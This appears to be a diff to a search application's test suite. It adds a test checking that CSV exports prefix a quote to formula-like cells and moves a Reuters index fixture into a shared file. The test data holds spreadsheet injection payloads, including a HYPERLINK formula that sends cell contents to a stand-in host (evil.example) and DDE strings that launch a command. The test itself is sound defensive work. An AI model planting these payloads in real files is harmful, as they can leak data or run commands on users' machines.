@@ -16,7 +16,6 @@ from searchapp.search.service import SearchService
 from searchapp.web import create_app
 from searchapp.web.service import service_of
 
-from conftest import REUTERS
 from fixtures import build_index, make_articles
 
 
@@ -124,6 +123,39 @@ def test_rows_show_the_entities_as_corrected(runner, tmp_path):
         article = client.get(f"/api/articles/{record['id']}").get_json()
         assert {key: article[key] for key in record} == record
         assert rows[record["id"]]["persons"] == "; ".join(record["persons"])
+
+
+HOSTILE_TITLES = {   # what a spreadsheet would run as a formula, by OWASP's list of first characters
+    "h1": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "h2": "+1+cmd|' /C calc'!A0",
+    "h3": "-2+3", "h4": "@SUM(1+1)*cmd|' /C calc'!A0", "h5": "\tTabbed", "h6": "\rCarriage",
+}
+
+
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(runner, tmp_path):
+    from datetime import date
+
+    from fixtures import make_article
+
+    articles = [make_article(doc_id, title, f"Oil news {n}. =Mallory said so.", date(2020, 1, 1 + n),
+                             persons=("=Mallory",))
+                for n, (doc_id, title) in enumerate(HOSTILE_TITLES.items())]
+    articles.append(make_article("plain", "Oil - a plain title = fine", "Oil news.", date(2020, 2, 1),
+                                 persons=("Ann Lee",)))
+    build_index(tmp_path, articles)
+    client = create_app({"TESTING": True, "INDEX_DIR": str(tmp_path)}).test_client()
+    body = client.get("/api/export.csv?sort=oldest").get_data(as_text=True)
+    rows = {row["id"]: row for row in _csv_rows(body)}
+    for doc_id, title in HOSTILE_TITLES.items():
+        assert rows[doc_id]["title"] == "'" + title
+        assert rows[doc_id]["persons"] == "'=Mallory"
+    assert rows["plain"]["title"] == "Oil - a plain title = fine" and rows["plain"]["persons"] == "Ann Lee"
+    # JSON Lines is data, not a sheet: the values stay as they are
+    records = {json.loads(line)["id"]: json.loads(line) for line in
+               client.get("/api/export.jsonl").get_data(as_text=True).splitlines()}
+    assert {doc_id: records[doc_id]["title"] for doc_id in HOSTILE_TITLES} == HOSTILE_TITLES
+    printed = runner.invoke(main, ["export", "--sort", "oldest", "--format", "csv", "--index-dir", str(tmp_path)])
+    assert printed.exit_code == 0, printed.output
+    assert printed.stdout_bytes == body.encode("utf-8")
 
 
 def test_download_name_says_what_was_searched(client):
@@ -247,15 +279,7 @@ def test_corpus_export_rows_equal_the_search_total(corpus_index_dir, args):
 # All of Reuters-21578: the counts against the search, and memory that does not grow with the rows
 
 
-@pytest.fixture(scope="module")
-def reuters_index_dir(corpora, tmp_path_factory):
-    from searchapp.store.indexer import reindex
-
-    index_dir = tmp_path_factory.mktemp("reuters-index")
-    summary = reindex([REUTERS], index_dir, workers=2)
-    assert summary.indexed > 20_000, summary
-    return index_dir
-
+# reuters_index_dir: conftest.py (shared with the trends' slow test, built once)
 
 # Building the index (spaCy over 21,578 articles) takes 5 minutes on 2 idle cores, more when shared.
 REUTERS_TIMEOUT = 2400
